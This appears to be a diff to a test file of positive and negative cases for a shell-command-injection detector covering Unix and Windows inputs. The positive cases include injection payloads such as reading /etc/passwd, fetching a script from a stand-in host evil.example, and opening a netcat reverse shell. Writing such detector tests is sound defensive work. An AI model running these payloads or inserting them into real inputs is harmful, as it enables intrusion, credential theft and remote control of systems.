@@ -130,8 +130,10 @@ CASES: tuple[Case, ...] = (
     ),
     Case(
         "UNIXShellCommands",
-        ("; cat /etc/passwd", "| id", "&& whoami", "$(curl http://evil.example/x.sh)", "; nc -e /bin/sh 10.0.0.1 4444"),
-        ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line"),
+        ("; cat /etc/passwd", "| id", "&& whoami", "$(curl http://evil.example/x.sh)", "; nc -e /bin/sh 10.0.0.1 4444",
+         "; salt-call cmd.run id", "x; xzcat /var/log/auth.log.xz", "x=cd /;cd etc;head hosts", "tr a b <<< 'abc'"),
+        ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line", "salt & pepper",
+         "python 3.10 release notes", "cd music; then play"),
     ),
     Case(
         "UNIXShellCommandsUnquoted",
@@ -145,8 +147,9 @@ CASES: tuple[Case, ...] = (
     ),
     Case(
         "WindowsShellCommands",
-        ("| type C:\\Windows\\win.ini", "& powershell -enc SQBFAFgA", "cmd.exe /c dir", "FOR /F %a IN (x) DO y"),
-        ("Windows 11 type cover", "the power shell of a turtle", "for a in list do x"),
+        ("| type C:\\Windows\\win.ini", "& powershell -enc SQBFAFgA", "cmd.exe /c dir", "FOR /F %a IN (x) DO y",
+         "& FOR /L /L %~ IN (1,1,9) DO cmd", "if/i x==y calc"),
+        ("Windows 11 type cover", "the power shell of a turtle", "for a in list do x", "if a == b then c"),
     ),
     Case(
         "PHPHighRiskMethods",
